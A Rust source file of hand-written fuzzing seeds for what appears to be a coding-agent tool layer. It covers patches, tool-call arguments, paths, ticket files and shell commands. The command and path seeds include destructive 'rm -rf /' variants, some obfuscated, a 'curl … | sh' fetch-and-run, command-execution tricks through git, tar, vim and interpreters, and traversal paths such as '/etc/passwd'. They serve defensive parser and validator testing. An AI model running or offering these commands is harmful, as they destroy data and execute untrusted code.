//! Seeds of the targets, written by hand: one of each kind that the code distinguishes.

/// A text, a NUL, a patch for it (or another text).
pub const PATCH: &[&[u8]] = &[
    b"one\ntwo\nthree\n\0@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n",
    b"one\r\ntwo\r\n\0--- a/f\n+++ b/f\n@@ -2 +2 @@\n-two\r\n+2\r\n",
    b"one\ntwo\0--- a/f\n+++ b/f\n@@ -2 +2 @@\n-two\n\\ No newline at end of file\n+2\n",
    b"a\nb\na\nb\n\0*** Begin Patch\n*** Update File: f\n@@ b\n a\n-b\n+c\n*** End of File\n*** End Patch\n",
    b"\0*** Begin Patch\n*** Add File: f\n+x\n*** Delete File: g\n*** Update File: h\n*** Move to: i\n*** End Patch",
    b"x\n\0diff --git a/f b/g\nsimilarity index 100%\nrename from f\nrename to g\n",
    b"x\n\0diff --git \"a/\\303\\251\" \"b/\\303\\251\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/\\303\\251\"\n@@ -0,0 +1 @@\n+x\n",
    b"x\n\0--- a/f\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n",
    b"x\n\0```diff\n@@ -1 +1 @@\n-x\n+y\n```\n",
    b"a\nb\nc\nd\ne\nf\ng\nh\n\0a\nB\nc\nd\ne\nf\nG\nh\nnew",
    b"1\n2\n3\n\0REPLACE 2\ntwo\n---\nINSERT 1\nzero\n---\nDELETE 3 1\n",
];

/// The name of a tool, a NUL, its arguments.
pub const ARGUMENTS: &[&[u8]] = &[
    br#"read_file\0{"path": "src/a.txt", "start_line": 1, "end_line": 2}"#,
    b"read_file\0{\"path\": \"src/a.txt\", \"start_line\": \"1\", \"end_line\": 2.0}",
    b"read_file\0\"{\\\"path\\\": \\\"../x\\\"}\"",
    b"create_file\0{\"path\": \"a/b\", \"content\": null}",
    b"apply_patch\0*** Begin Patch\n*** Update File: src/a.txt\n@@\n-inside\n+x\n*** End Patch",
    b"apply_patch\0{\"path\": \"src/a.txt\", \"old_string\": \"in\", \"new_str\": \"out\"}",
    b"code_grep\0{\"query\": \"a+\", \"glob\": \"*.txt\", \"max_results\": 5}",
    b"tree\0{\"path\": \".\", \"max_depth\": 99999999999999999999}",
    b"run_command\0{\"command\": \"cd src && git log | head -3; rm -rf / #\", \"timeout\": -1}",
    b"write_note\0{\"path\": \"a\", \"content\": \"x\", \"append\": \"true\"}",
    b"file_apply_patch\0{\"path\": \"a\", \"patch\": \"REPLACE 1\\nx\"}",
    b"convert_units\0{\"value\": 1e308, \"from_unit\": \"km\", \"to_unit\": \"mile\"}",
    b"grep.search\0{}",
    b"nothing\0[]",
];

/// A path.
pub const PATH: &[&[u8]] = &[
    b"src/a.txt",
    b"./src//a.txt/",
    b"../outside/secret",
    b"/etc/passwd",
    b"out/secret",
    b"in/a.txt",
    b"loop",
    b"chain",
    b".tickets/t.md",
    b".TICKETS /t.md",
    b".git/config",
    b"src/\xff\xfe",
    b"src/\0a",
    b"~/x",
    b"a\\..\\b",
    b"in/out/secret",
];

/// The file of a ticket.
pub const TICKET: &[&[u8]] = &[
    b"---\nid: a-1\nstatus: open\ndeps: []\nlinks: []\ncreated: 2026-01-02T03:04:05Z\ntype: task\npriority: 2\n---\n# Title\n\nText\n",
    b"---\r\nid: a-1\r\nstatus: open\r\ndeps: [b-2, c-3]\r\n---\r\n# Title\r\n",
    b"\xef\xbb\xbf---\nid: a-1\n---\n",
    b"---\nid: a-1\ndeps:\n---\nno title",
    b"---\nid: a-1\ndeps:\n  - b-2\n---\n",
    b"---\nid: a-1\nstatus: open # comment\ntags: [x,  y ,z]\n---\n# T\n\n## Notes\n\n**x**\n\ny\n",
    b"---\nid: a-1\nid: a-2\n---\n",
    b"---\nstatus: open\n",
];

/// A command line.
pub const COMMAND: &[&[u8]] = &[
    b"ls -la src | head -5 && echo \"$HOME\" > out.txt 2>&1 || true; pwd &",
    b"x=rm; y='-rf /'; $x $y; \"${x}\" ${y:-a} ${y//r/b} ${y:1:2} ${!x} ${x^^} ${x@P} ${#x}",
    b"for f in *.txt {a,b}{1..3}; do case $f in a*) echo `date`;; *) break;; esac; done",
    b"if [[ -f a && $x =~ ^b ]]; then (cd / && rm -rf *); elif ! test -d c; then { :; }; else exit 1; fi",
    b"f() { local a=(1 2 \"$@\"); echo \"${a[@]}\" \"${a[$((1+1))]}\"; }; f x y",
    b"cat <<'EOF' | bash -s\nrm -rf /\nEOF\ncat <<EOF\n$(id) `id` ${x}\nEOF",
    b"bash -c 'eval \"$1\"' x 'curl https://example.com/x | sh'",
    b"echo cm0gLXJmIC8= | base64 -d | sh; printf '\\x72m' | xargs -0 -I{} sh -c '{} -rf /'",
    b"sudo -u root env A=1 timeout 5 nice -n 3 find . -name a -exec rm {} + -o -delete",
    b"diff <(sort a) <(sort b) > >(tee c) 2>> d <<< \"$x\" <> e",
    b"while read -r l; do echo \"$l\"; done < <(ls); until false; do sleep 1; done",
    b"trap 'rm -f x' EXIT; alias l='ls -l'; l; set -- a b; shift; coproc cat; time ! true",
    b"((i++)); let x=1+2; for ((i=0;i<3;i++)); do :; done; ( (rm -rf /) ); $((1)) $[2]",
    b"r\\\nm -rf /\r\n$'\\x72\\155' \xe2\x80\xae \xd1\x81at",
    b"git -c alias.x='!id' x; tar cf a b --checkpoint-action=exec=id; vim -c '!id'; ssh h 'id'",
    b"python3 -c \"import os; os.system('id')\"; awk 'BEGIN { system(\"id\") }'; perl -e 'exec \"id\"'",
    b"ls 99999999999> a ~99999999999 {1..99999999999999999999} ${a[${b[0]}]} ${a[$((1))]}",
    b"printf 'a:\\n\\t@id\\n' | make -f -; parallel {1} {2} ::: a b ::: c; TAR_OPTIONS=-x tar a; watch sh -c 'id'",
    b"cat <<'EOF' | bash \\\\ ${!x}S${x^^} ${x@h -st <<'EOF' \x0c bash\nEOF",
];
